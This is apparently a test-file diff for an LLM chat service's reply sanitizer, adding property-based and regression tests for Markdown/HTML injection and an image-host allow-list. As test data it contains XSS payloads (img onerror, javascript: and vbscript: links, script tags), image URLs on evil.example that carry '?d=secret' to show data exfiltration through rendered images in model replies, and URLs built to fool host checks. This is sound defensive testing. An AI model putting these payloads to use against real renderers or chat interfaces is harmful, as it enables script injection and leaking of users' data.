@@ -464,6 +464,8 @@ MARKUP_FRAGMENTS = [
     "\n", "\n\n", " ", "\t", "\x01", "[x](", "![i](", ")", "(", "]", "<a href=", "<svg",
     "<math>", "<style>", "<iframe", "<b>", "</b>", "<div>", "<!--", "-->", "<![CDATA[",
     "<p title=\"", "\\", "# ", "- ", "a < b", "https://x.example/", "mailto:a@b",
+    "![a](", "![", "<img src=https://evil.example/x.png>", "https://evil.example/x.png", "> ",
+    "    ", "1. ", "<div>",
 ]
 CODE_FRAGMENTS = ["`", "``", "```", "~~~", "\n```\n", "[r]: "]
 
@@ -514,13 +516,19 @@ def test_markup_and_markdown_code_sanitize_to_nothing_executable(text: str) -> N
 
 
 @PROPERTY_SETTINGS
+@given(st.one_of(any_text, rich_text))
+def test_no_image_is_left_from_a_host_not_allowed(text: str) -> None:
+    assert rendered_images(sanitize(text)) == []
+
+
+@PROPERTY_SETTINGS
 @given(st.text(alphabet=st.characters(exclude_characters="<[\x00"), max_size=200))
 def test_text_without_markup_characters_is_untouched(text: str) -> None:
     assert sanitize(text) == text
 
 
 @PROPERTY_SETTINGS
-@given(markup_text, st.lists(st.integers(min_value=0, max_value=300), max_size=8))
+@given(st.one_of(markup_text, rich_text), st.lists(st.integers(0, 300), max_size=8))
 def test_a_reply_sanitized_as_it_streams_in_is_safe_at_every_moment(
     text: str, cuts: list[int]
 ) -> None:
@@ -531,8 +539,136 @@ def test_a_reply_sanitized_as_it_streams_in_is_safe_at_every_moment(
     for piece in pieces:
         shown += stream.feed(piece)
         assert rendered_problems(shown) == [], (pieces, shown)
+        assert rendered_images(shown) == [], (pieces, shown)
     shown += stream.finish()
     assert rendered_problems(shown) == [], (pieces, shown)
+    final = stream.text()
+    assert rendered_problems(final) == [] and sanitize(final) == final, (pieces, final)
+
+
+# --------------------------------------------------------------------------------------------
+# Issue 10: CommonMark's own idea of code, reference definitions, images
+# --------------------------------------------------------------------------------------------
+
+REPRODUCTIONS = [
+    "hi ~~~<img src=x onerror=alert(1)>~~~",  # tildes fence only at a line start
+    "\\`<img src=x onerror=alert(1)>`",  # an escaped backtick opens no code span
+    "x ```<img src=x onerror=alert(1)>`` y",  # unequal backtick runs
+    "    ```\n<img src=x onerror=alert(1)>\n```",  # an indented "fence" is indented code
+    "<div>`</div><img src=x onerror=alert(1)>`",  # no code spans inside an HTML block
+    "[x][1]\n\n[1]: javascript:alert(1)",  # reference definitions
+    "[x][1]\n\n[1]:\n  <javascript:alert(1)> 'title'",
+    "> [x][1]\n>\n> [1]: vbscript:msgbox(1)",
+    "- item\n\n  <img src=x onerror=alert(1)>",
+    "> <div>\n> <img src=x onerror=alert(1)>",
+    "x <script/xss>alert(1)</script>",
+    "[click](\x01javascript:alert(1))",
+]
+
+
+@pytest.mark.parametrize("text", [pytest.param(t, id=repr(t)[1:-1][:50]) for t in REPRODUCTIONS])
+def test_issue_10_reproduction_is_made_safe(text: str) -> None:
+    cleaned = sanitize(text)
+    assert rendered_problems(cleaned) == [], cleaned
+    assert executable(cleaned) == [], cleaned
+    assert sanitize(cleaned) == cleaned
+
+
+@pytest.mark.parametrize(
+    "text", [pytest.param(t, id=repr(t)[1:-1][:50]) for t in REPRODUCTIONS[:10]]
+)
+def test_issue_10_reproduction_is_live_as_written(text: str) -> None:
+    assert rendered_problems(text) or executable(text)
+
+
+def test_an_unsafe_reference_definition_points_nowhere() -> None:
+    assert sanitize("[x][1] and [y]\n\n[1]: javascript:alert(1)\n[y]: <data:text/html,x> 't'") == (
+        "[x][1] and [y]\n\n[1]: #\n[y]: # 't'"
+    )
+
+
+def test_markdown_code_is_never_touched() -> None:
+    text = (
+        "``<img src=x onerror=alert(1)>`` and `[x](javascript:alert(1))`\n\n"
+        "```\n<script>alert(1)</script>\n```\n\n    <iframe src=javascript:alert(1)>\n"
+    )
+    assert sanitize(text) == text
+
+
+def test_an_autolink_with_an_unsafe_scheme_is_shown_as_text() -> None:
+    assert sanitize("<javascript:alert(1)>") == "&lt;javascript:alert(1)>"
+    assert sanitize("<https://example.com/a>") == "<https://example.com/a>"
+
+
+def test_nul_is_removed_and_text_is_kept() -> None:
+    assert sanitize("a\x00b") == "ab"
+    assert sanitize("<b>a\x00b</b>") == "<b>ab</b>"
+
+
+def test_text_that_never_settles_is_shown_inert() -> None:
+    from llm_service.security import sanitize as module
+
+    assert module._inert("<b>[x](y)</b>") == r"\<b\>\[x\]\(y\)\<\/b\>"
+    assert sanitize(module._inert("<img src=x onerror=alert(1)>")) == module._inert(
+        "<img src=x onerror=alert(1)>"
+    )
+
+
+# Images: shown only from LLM_ALLOWED_IMAGE_HOSTS (issue 10, item 14).
+
+def test_a_markdown_image_becomes_a_link() -> None:
+    assert sanitize("![alt](https://evil.example/x.png?d=secret)") == (
+        "[alt](https://evil.example/x.png?d=secret)"
+    )
+    assert sanitize("![](https://evil.example/x.png)") == "[image](https://evil.example/x.png)"
+    assert sanitize("![chart][c]\n\n[c]: https://evil.example/c.png") == (
+        "[chart][c]\n\n[c]: https://evil.example/c.png"
+    )
+
+
+def test_an_html_image_becomes_a_link() -> None:
+    assert sanitize('<img src="https://evil.example/x.png?d=secret" alt="a chart">') == (
+        '<a href="https://evil.example/x.png?d=secret">a chart</a>'
+    )
+    assert sanitize("<p>\n<img src=https://evil.example/x.png>\n</p>") == (
+        '<p>\n<a href="https://evil.example/x.png">image</a>\n</p>'
+    )
+
+
+def test_an_image_from_an_allowed_host_stays() -> None:
+    hosts = ["img.example"]
+    for text in ("![alt](https://img.example/x.png)", "![alt](HTTPS://IMG.EXAMPLE:8443/x.png)",
+                 '<img src="https://img.example/x.png" alt="a">',
+                 "A ![b][c]\n\n[c]: https://img.example/c"):
+        assert sanitize(text, image_hosts=hosts) == text
+        assert len(rendered_images(text)) == 1
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://img.example@evil.example/x.png",
+        "https://evil.example\\@img.example/x.png",
+        "//img.example/x.png",
+        "http://img.example.evil.example/x.png",
+        "https://evil.example/img.example/x.png",
+        "ftp://img.example/x.png",
+        "/relative/x.png",
+    ],
+)
+def test_an_image_is_shown_only_when_its_host_is_certainly_allowed(url: str) -> None:
+    for text in (f"![a]({url})", f'<img src="{url}">'):
+        cleaned = sanitize(text, image_hosts=["img.example"])
+        assert rendered_images(cleaned) == [], cleaned
+
+
+def test_allowed_image_hosts_is_a_comma_separated_setting() -> None:
+    from llm_service.settings import Settings
+
+    assert Settings(LLM_ALLOWED_IMAGE_HOSTS=" img.example, cdn.example ,").allowed_image_hosts == [
+        "img.example", "cdn.example"
+    ]
+    assert Settings().allowed_image_hosts == []
 
 
 # --------------------------------------------------------------------------------------------
@@ -634,3 +770,62 @@ async def test_streamed_reply_is_sanitized_piece_by_piece_and_stored_sanitized(
     assert events[-1][1]["response"] == sanitize(echo)
     history = (await api.client.get("/llm/history/openai", headers=auth)).json()["history"]
     assert [m["content"] for m in history] == [sanitize(TYPED), sanitize(echo)]
+
+
+IMAGES = "see ![chart](https://img.example/c.png) and ![x](https://evil.example/x.png?d=secret)"
+
+
+async def test_chat_shows_images_only_from_allowed_hosts(
+    make_api: Any, fake_vendor: FakeVendor
+) -> None:
+    async with make_api(LLM_ALLOWED_IMAGE_HOSTS="img.example") as api:
+        auth = api.auth(1)
+        await api.client.post(
+            "/llm/config/openai", json={"apiKey": "sk-sanitize-test-key-1234"}, headers=auth
+        )
+        expected = (
+            "see ![chart](https://img.example/c.png) and [x](https://evil.example/x.png?d=secret)"
+        )
+        response = await api.client.post(
+            "/llm/chat/openai", json={"message": IMAGES}, headers=auth
+        )
+        assert response.status_code == 200, response.text
+        assert response.json()["response"].endswith(": " + expected)
+        streamed = await api.client.post(
+            "/llm/chat/openai/stream", json={"message": IMAGES}, headers=auth
+        )
+        events = stream_events(streamed.text)
+        deltas = "".join(data["text"] for name, data in events if name == "delta")
+        assert events[-1][0] == "done" and events[-1][1]["response"] == deltas
+        assert deltas.endswith(": " + expected)
+        history = (await api.client.get("/llm/history/openai", headers=auth)).json()["history"]
+        assert [m["content"] for m in history][::2] == [expected, expected]
+
+
+async def test_a_vendor_reply_with_nul_is_stored_and_returned_without_it(
+    api: Api, fake_vendor: FakeVendor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from tests.fakes import vendor
+
+    reply = property(lambda chat: "be\x00fore <b>x</b>\x00 after")
+    monkeypatch.setattr(vendor.Chat, "reply", reply)
+    auth = api.auth(1)
+    await api.client.post(
+        "/llm/config/openai", json={"apiKey": "sk-sanitize-test-key-1234"}, headers=auth
+    )
+    response = await api.client.post("/llm/chat/openai", json={"message": "hi"}, headers=auth)
+    assert response.status_code == 200, response.text
+    assert response.json()["response"] == "before <b>x</b> after"
+    streamed = await api.client.post(
+        "/llm/chat/openai/stream", json={"message": "hi"}, headers=auth
+    )
+    assert streamed.status_code == 200, streamed.text
+    events = stream_events(streamed.text)
+    assert events[-1] == ("done", {**events[-1][1], "response": "before <b>x</b> after"})
+    assert "".join(data["text"] for name, data in events if name == "delta") == (
+        "before <b>x</b> after"
+    )
+    history = (await api.client.get("/llm/history/openai", headers=auth)).json()["history"]
+    assert [m["content"] for m in history if m["role"] == "assistant"] == [
+        "before <b>x</b> after"
+    ] * 2
